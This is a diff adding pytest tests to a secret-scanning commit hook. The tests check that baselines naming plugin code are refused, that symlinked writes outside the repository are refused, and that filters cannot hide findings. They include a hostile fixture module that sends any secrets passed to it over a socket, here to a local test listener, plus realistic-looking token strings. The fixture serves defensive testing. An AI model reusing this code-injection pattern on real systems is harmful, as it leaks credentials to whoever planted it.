@@ -11,6 +11,7 @@ from pathlib import Path
 import pytest
 
 from secretfence.baseline import Baseline, merge
+from secretfence.findings import hash_secret
 from tests.conftest import git, write
 
 TELEGRAM_A = "7213808860:AAH1bjqpKKW3maRSPAxzIU-0v6xNuq2-NjM"
@@ -130,7 +131,7 @@ def test_hook_fails_loudly_on_a_plugin_it_cannot_load(team_repo: Path, run_cli) 
     code, out, err = run_cli("scan", "--staged", "app.py")
     assert code == 2 and out == ""
     assert err.strip() == (
-        f"secretfence: error: {team_repo / BASELINE}: names plugin 'CorpInternalTokenDetector', which secretfence "
+        f"secretfence: error: {team_repo / BASELINE}: plugins_used[28]: names plugin 'Cor…tor', which secretfence "
         "cannot load (not in detect-secrets 1.5 nor secretfence); the scan would miss its findings"
     )
 
@@ -177,3 +178,251 @@ def test_audit_needs_a_terminal(team_repo: Path, run_cli, monkeypatch) -> None:
     monkeypatch.setattr(sys, "stdin", io.StringIO(""))
     code, _, err = run_cli("audit")
     assert code == 2 and "needs a terminal; use --stats" in err
+
+
+# --- a baseline is data: nothing it names is ever imported ------------------------------------
+
+# Written into the repository by the tests below: importing it, or calling its `f`, leaves a
+# marker file and connects to the test's listener, sending what it was given.
+EVIL_MODULE = """\
+import socket
+open({marker!r}, "a").write("imported\\n")
+socket.create_connection(("127.0.0.1", {port})).sendall(b"imported")
+
+
+def f(secret="", *args, **kwargs):
+    socket.create_connection(("127.0.0.1", {port})).sendall(secret.encode())
+    return True
+"""
+
+
+@pytest.mark.parametrize(("settings", "reason"), [
+    ({"filters_used": [{"path": "file://baseline/evil.py::f"}]},
+     "filters_used[0]: filter 'fil…::f' is not one of detect-secrets 1.5's built-in filters"),
+    ({"filters_used": [{"path": "sfevil.f"}]},
+     "filters_used[0]: filter 's…f' is not one of detect-secrets 1.5's built-in filters"),
+    ({"filters_used": [{"path": "detect_secrets.filters.allowlist.is_line_allowlisted"},
+                       {"path": "file://baseline/evil.py::f", "pattern": ["x"]}]},
+     "filters_used[1]: filter 'fil…::f' is not one of detect-secrets 1.5's built-in filters"),
+    ({"plugins_used": [{"name": "EvilDetector", "path": "file://baseline/evil.py"}]},
+     "plugins_used[0]: names plugin 'Ev…r', which secretfence cannot load"),
+    ({"version": "0.14.3", "plugins_used": [], "custom_plugin_paths": ["baseline/evil.py", "sfevil.py"]},
+     "`custom_plugin_paths` names plugin code; a baseline is data"),
+])
+def test_a_baseline_naming_code_is_refused_and_nothing_runs(temp_git_dir: Path, settings: dict, reason: str) -> None:
+    """The hook in a repository whose baseline names code (reviewer's report, defect 1): before,
+    the code ran and received every secret found. Now: one line, exit 2, nothing imported, no
+    connection made."""
+    from tests.verify.conftest import Listener, silent
+
+    listener = Listener(silent)
+    try:
+        marker = temp_git_dir.parent / "IMPORTED"
+        evil = EVIL_MODULE.format(marker=str(marker), port=listener.port)
+        write(temp_git_dir / "baseline" / "evil.py", evil)
+        write(temp_git_dir / "sfevil.py", evil)  # importable as `sfevil`: `python -m` puts the cwd on sys.path
+        write(temp_git_dir / "leak.py", f"TOKEN = '{TELEGRAM_A}'\n")
+        (temp_git_dir / BASELINE).write_text(json.dumps({"version": "1.5.0", "results": {}, **settings}))
+        git(temp_git_dir, "add", "-A")
+        hook = subprocess.run([sys.executable, "-m", "secretfence", "scan", "--staged"], cwd=temp_git_dir,
+                              capture_output=True, text=True, timeout=120)
+        assert (hook.returncode, hook.stdout) == (2, ""), hook.stderr
+        assert hook.stderr.startswith(f"secretfence: error: {temp_git_dir / BASELINE}: {reason}"), hook.stderr
+        assert len(hook.stderr.splitlines()) == 1
+        assert not marker.exists()
+        assert listener.connections == 0
+    finally:
+        listener.close()
+
+
+def test_a_plugin_path_is_never_imported(temp_git_dir: Path) -> None:
+    """A detect-secrets plugin named with a `path` loads by its name; the path is ignored."""
+    marker = temp_git_dir.parent / "IMPORTED"
+    write(temp_git_dir / "baseline" / "evil.py", f"open({str(marker)!r}, 'w').close()\n")
+    write(temp_git_dir / "keys.py", "aws_access_key_id = 'AKIA4NACSIJMDDNSEDTE'\nG = 'ghp_Zx8Kq2Lm9Np4Rt7Vw1Yb3Cd6Ef0Gh5Jk2Ls8'\n")
+    (temp_git_dir / BASELINE).write_text(json.dumps({"version": "1.5.0", "results": {}, "plugins_used": [
+        {"name": "GitHubTokenDetector", "path": "file://baseline/evil.py"},
+        {"name": "SecretfenceAwsDetector", "path": "file://baseline/evil.py"}]}))
+    git(temp_git_dir, "add", "-A")
+    hook = subprocess.run([sys.executable, "-m", "secretfence", "scan", "--staged", "--json"], cwd=temp_git_dir,
+                          capture_output=True, text=True, timeout=120)
+    assert hook.returncode == 1, hook.stderr
+    assert sorted(e["type"] for e in json.loads(hook.stdout)["results"]["keys.py"]) == ["AWS Credentials", "GitHub Token"]
+    assert not marker.exists()
+
+
+# --- writes stay inside the repository ------------------------------------------------------------
+
+
+@pytest.fixture
+def outside(tmp_path: Path) -> Path:
+    """A file outside the repository that a committed link points at."""
+    target = tmp_path / "outside" / "precious"
+    write(target, "precious\n")
+    return target
+
+
+def _refused(err: str, name: str) -> bool:
+    return err == (f"secretfence: error: {name}: refused: a symbolic link leads outside the repository; secretfence "
+                   "writes only inside it (replace the link with a regular file)\n")
+
+
+def test_create_refuses_a_baseline_linked_outside(temp_git_dir: Path, outside: Path, run_cli) -> None:
+    (temp_git_dir / "baseline").mkdir()
+    (temp_git_dir / BASELINE).symlink_to(outside)
+    write(temp_git_dir / "a.py", "x = 'AKIA4NACSIJMDDNSEDTE'\n")
+    git(temp_git_dir, "add", "-A")
+    code, out, err = run_cli("baseline", "create", "--force")
+    assert (code, out) == (2, "") and _refused(err, str(temp_git_dir / BASELINE)), err
+    assert outside.read_text() == "precious\n"
+
+
+def test_a_linked_directory_on_the_way_out_is_refused_too(temp_git_dir: Path, outside: Path, run_cli) -> None:
+    (temp_git_dir / "baseline").symlink_to(outside.parent, target_is_directory=True)
+    write(temp_git_dir / "a.py", "x = 1\n")
+    git(temp_git_dir, "add", "-A")
+    code, _, err = run_cli("baseline", "create", "--baseline", "baseline/new.baseline")
+    assert code == 2 and _refused(err, "baseline/new.baseline"), err
+    assert sorted(os.listdir(outside.parent)) == ["precious"]
+
+
+def test_update_and_audit_refuse_a_baseline_linked_outside(team_repo: Path, outside: Path, run_cli) -> None:
+    from secretfence.commands.audit import audit
+
+    outside.write_text((team_repo / BASELINE).read_text())
+    (team_repo / BASELINE).unlink()
+    (team_repo / BASELINE).symlink_to(outside)
+    before = outside.read_text()
+    write(team_repo / "bot.py", f"T = '{TELEGRAM_A}'\n")
+    git(team_repo, "add", "-A")
+    code, _, err = run_cli("baseline", "update")
+    assert code == 2 and _refused(err, str(team_repo / BASELINE)), err
+    document = json.loads(before)
+    document["results"] = {"bot.py": [{"type": "Telegram Bot API Token", "filename": "bot.py", "line_number": 1,
+                                       "hashed_secret": hash_secret(TELEGRAM_A), "is_verified": False}]}
+    before = json.dumps(document)
+    outside.write_text(before)
+    from secretfence.errors import WriteError
+
+    with pytest.raises(WriteError, match="refused: a symbolic link leads outside the repository"):
+        audit(stdin=io.StringIO("n\n"), stdout=io.StringIO())
+    assert outside.read_text() == before
+
+
+def test_a_link_inside_the_repository_is_followed(team_repo: Path, run_cli) -> None:
+    """The baseline may live under another name in the repository, linked from the usual one."""
+    real = team_repo / "security" / "team.baseline"
+    real.parent.mkdir()
+    os.replace(team_repo / BASELINE, real)
+    (team_repo / BASELINE).symlink_to(Path("..") / "security" / "team.baseline")
+    write(team_repo / "bot.py", f"T = '{TELEGRAM_A}'\n")
+    git(team_repo, "add", "-A")
+    code, out, err = run_cli("baseline", "update")
+    assert code == 0, err
+    assert (team_repo / BASELINE).is_symlink() and "bot.py" in json.loads(real.read_text())["results"]
+
+
+def test_install_merge_driver_refuses_gitattributes_linked_outside(temp_git_dir: Path, outside: Path, run_cli) -> None:
+    (temp_git_dir / ".gitattributes").symlink_to(outside)
+    code, _, err = run_cli("baseline", "install-merge-driver")
+    assert code == 2 and _refused(err, str(temp_git_dir / ".gitattributes")), err
+    assert outside.read_text() == "precious\n"
+    config = subprocess.run(["git", "config", "--get-regexp", "merge"], cwd=temp_git_dir, capture_output=True, text=True)
+    assert config.stdout == ""  # nothing half-done
+
+
+def test_install_merge_driver_refuses_a_gitattributes_fifo(temp_git_dir: Path, run_cli) -> None:
+    os.mkfifo(temp_git_dir / ".gitattributes")
+    code, _, err = run_cli("baseline", "install-merge-driver")
+    assert code == 2 and err == (f"secretfence: error: {temp_git_dir / '.gitattributes'}: cannot read: not a regular "
+                                 "file (a FIFO)\n")
+
+
+def test_the_merge_driver_refuses_to_write_through_a_link_outside(team_repo: Path, outside: Path) -> None:
+    base = team_repo / BASELINE
+    (team_repo / "ours").symlink_to(outside)
+    outside.write_text(base.read_text())
+    before = outside.read_text()
+    merged = subprocess.run([sys.executable, "-m", "secretfence", "baseline", "merge", str(base), "ours", str(base)],
+                            cwd=team_repo, capture_output=True, text=True, timeout=120)
+    assert merged.returncode == 2 and _refused(merged.stderr, "ours"), merged.stderr
+    assert outside.read_text() == before
+
+
+# --- what a baseline lets pass, at each door ------------------------------------------------------
+
+GITHUB = "ghp_Zx8Kq2Lm9Np4Rt7Vw1Yb3Cd6Ef0Gh5Jk2Ls8"
+
+
+def _write_baseline(repo: Path, **document: object) -> None:
+    write(repo / BASELINE, json.dumps({"version": "1.5.0", "results": {}, **document}))
+
+
+@pytest.mark.parametrize(("filter_path", "pattern"), [
+    ("detect_secrets.filters.regex.should_exclude_secret", r"\d"),
+    ("detect_secrets.filters.regex.should_exclude_line", "TOKEN"),
+    ("detect_secrets.filters.regex.should_exclude_file", "leak"),
+])
+def test_a_baseline_regex_filter_never_hides_secretfence_findings(temp_git_dir: Path, run_cli, filter_path: str,
+                                                                   pattern: str) -> None:
+    write(temp_git_dir / "leak.py", f"TOKEN = '{TELEGRAM_A}'\n")
+    _write_baseline(temp_git_dir, filters_used=[{"path": filter_path, "pattern": [pattern]}])
+    code, out, _ = run_cli("scan", "--json", "leak.py")
+    assert code == 1
+    document = json.loads(out)
+    assert [e["type"] for e in document["results"]["leak.py"]] == ["Telegram Bot API Token"]
+    if filter_path.endswith("should_exclude_file"):  # named, so that it passes nobody unseen
+        assert document["skipped"] == {"leak.py": "detect-secrets' plugins set aside by the baseline's "
+                                                  "should_exclude_file; secretfence's detectors scanned it"}
+
+
+def test_a_bang_in_a_real_file_name_is_not_an_archive_member(temp_git_dir: Path, run_cli) -> None:
+    """`src/prod!.py` is a file: an entry audited false for the same secret in another file
+    does not let it pass the commit door (it used to, by the `!`)."""
+    write(temp_git_dir / "src" / "prod!.py", f"TOKEN = '{TELEGRAM_A}'\n")
+    _write_baseline(temp_git_dir, results={"tests/fixture.py": [
+        {"type": "Telegram Bot API Token", "filename": "tests/fixture.py", "hashed_secret": hash_secret(TELEGRAM_A),
+         "is_secret": False}]})
+    code, out, _ = run_cli("scan", "src")
+    assert code == 1 and "src/prod!.py\n  line 1: Telegram Bot API Token  721…NjM" in out
+
+
+def _wheel(repo: Path, members: dict) -> None:
+    import zipfile
+
+    (repo / "dist").mkdir(exist_ok=True)
+    with zipfile.ZipFile(repo / "dist" / "x-1.0-py3-none-any.whl", "w") as archive:
+        for name, text in members.items():
+            archive.writestr(name, text)
+
+
+@pytest.mark.parametrize(("label", "code"), [(True, 1), (None, 1), (False, 0)])
+def test_the_gate_passes_an_entry_for_the_member_itself_only_when_audited_false(
+        temp_git_dir: Path, run_cli, label: "bool | None", code: int) -> None:
+    """The reviewer's defect 7: an exact-identity entry labelled real (or not audited) passed."""
+    _wheel(temp_git_dir, {"pkg/c.py": f"T = '{TELEGRAM_A}'\n"})
+    member = "dist/x-1.0-py3-none-any.whl!pkg/c.py"
+    entry = {"type": "Telegram Bot API Token", "filename": member, "hashed_secret": hash_secret(TELEGRAM_A)}
+    if label is not None:
+        entry["is_secret"] = label
+    _write_baseline(temp_git_dir, results={member: [entry]})
+    result, out, _ = run_cli("check-dist")
+    assert result == code, out
+    if code:
+        assert out.endswith("secretfence check-dist: 1 new secret in 1 file, 1 file scanned — blocked (exit 1)\n")
+    else:
+        assert out.endswith("1 accounted for by the baseline, 1 file scanned — ok (exit 0)\n")
+
+
+def test_at_the_gate_a_baseline_neither_filters_nor_drops_detectors(temp_git_dir: Path, run_cli) -> None:
+    """Regex filters and a short plugin list change the commit door (detect-secrets' way), not
+    what may be published."""
+    _wheel(temp_git_dir, {"pkg/c.py": f"T = '{TELEGRAM_A}'\nG = '{GITHUB}'\n"})
+    _write_baseline(temp_git_dir, plugins_used=[{"name": "KeywordDetector"}], filters_used=[
+        {"path": "detect_secrets.filters.regex.should_exclude_file", "pattern": ["."]},
+        {"path": "detect_secrets.filters.regex.should_exclude_line", "pattern": ["T = ", "G = "]},
+        {"path": "detect_secrets.filters.regex.should_exclude_secret", "pattern": ["ghp_", "AAH"]}])
+    code, out, _ = run_cli("check-dist", "--json")
+    assert code == 1
+    results = json.loads(out)["results"]["dist/x-1.0-py3-none-any.whl!pkg/c.py"]
+    assert sorted(e["type"] for e in results) == ["GitHub Token", "Telegram Bot API Token"]
